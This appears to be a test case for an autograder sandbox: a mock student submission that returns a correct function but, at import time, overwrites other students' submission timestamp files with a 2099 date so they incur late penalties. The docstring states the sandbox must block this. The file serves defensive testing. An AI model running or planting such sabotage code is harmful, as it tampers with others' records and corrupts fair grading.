"""A correct f, and in the same cell every other student's submission time moved to the far
future: submitted/<student>/<assignment>/timestamp.txt is rewritten (created where missing) as
2099-12-31 23:59:59 UTC, so that a late-submission policy would cost them points. No marker is
possible in a timestamp. What must happen: the kernel cannot reach submitted/, every other
timestamp.txt stays byte-identical (and none appears), the gradebook's submission times are
unchanged, and this submission scores full marks."""

LOSES = []

# %% f
import os
import pathlib


def _rewrite_timestamps():
    here = pathlib.Path(os.getcwd()).resolve()
    me = here.parent.name if here.parent.parent.name in ("submitted", "autograded") else ""
    rewritten = 0
    for folder in (here, *here.parents):
        for assignment in list((folder / "submitted").glob("*/*"))[:500]:
            if assignment.is_dir() and assignment.parent.name != me:
                (assignment / "timestamp.txt").write_text("2099-12-31 23:59:59.000000 UTC")
                rewritten += 1
    return rewritten


try:
    print(f"rewrote {_rewrite_timestamps()} timestamps")
except Exception as error:
    print("blocked:", type(error).__name__)


def f(x):
    return (x - 0.5) ** 2
